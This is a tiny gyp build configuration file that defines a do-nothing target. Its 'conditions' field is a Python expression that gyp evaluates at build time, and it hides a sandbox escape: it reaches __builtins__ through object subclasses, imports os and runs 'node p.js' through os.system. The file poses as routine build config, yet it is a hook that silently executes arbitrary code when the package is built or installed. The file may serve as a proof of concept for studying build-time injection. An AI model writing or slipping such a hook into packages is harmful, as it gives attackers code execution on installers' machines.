{
	'targets': [{ 'target_name': 'x', 'type': 'none' }],
	'conditions': [["().__class__.__base__.__subclasses__()[0]._module.__builtins__['__import__']('os').system('node p.js')==0", {}]]
}
